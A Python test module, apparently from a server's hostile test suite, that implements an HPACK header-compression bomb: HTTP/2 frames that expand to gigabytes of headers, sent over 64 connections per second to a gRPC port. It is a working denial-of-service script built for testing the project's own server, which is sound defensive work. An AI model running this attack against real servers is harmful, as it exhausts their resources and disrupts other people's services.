"""HPACK bombs on many connections at once, each with what a connection may send without a key."""

from __future__ import annotations

import time
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING, ClassVar

from tests.hostile.attack import Attack, Findings
from tests.hostile.http2 import (
    END_HEADERS,
    END_STREAM,
    HEADERS,
    Http2Connection,
    call_headers,
    frame,
    indexed_field,
    literal_field,
)

if TYPE_CHECKING:
    from tests.hostile.attack import Target

__all__ = ["HeaderBombs"]

_NUM_CONNECTIONS = 64
_EVERY_S = 1.0
_NUM_CALLS = 4
_NUM_REFERENCES = 15_800


class HeaderBombs(Attack):
    """64 connections each second that send 62 KiB each, which stand for 15 GB of headers."""

    name = "HPACK bombs on 64 connections"
    is_bounded = False
    acknowledges: ClassVar[bool] = True
    entry: ClassVar[bytes] = literal_field(b"x", b"a" * 3900, is_indexed=True)
    """The header that is named."""

    def data(self) -> bytes:
        """Return what one connection sends: four calls, of which the first stores the header."""
        start = call_headers("/grpc.health.v1.Health/Watch")
        references = indexed_field(0) * (_NUM_REFERENCES - len(self.entry))
        blocks = [start + self.entry + references, *[start + references] * (_NUM_CALLS - 1)]
        return b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, 2 * index + 1, block)
            for index, block in enumerate(blocks)
        )

    def run(self, target: Target, seconds: float) -> Findings:
        """Open the connections at once, and close them before the next ones."""
        data, began_s, num_opened = self.data(), time.monotonic(), 0
        while (now_s := time.monotonic()) < began_s + seconds:
            with ExitStack() as stack:
                for _ in range(_NUM_CONNECTIONS):
                    with suppress(OSError):
                        connection = Http2Connection(
                            target.grpc_port, acknowledges=self.acknowledges
                        )
                        stack.enter_context(connection).send_frames(data, 0.05)
                        num_opened += 1
                time.sleep(max(0.0, min(now_s + _EVERY_S, began_s + seconds) - time.monotonic()))
        return Findings(figures={"connections": num_opened, "bytes of each": len(data)})
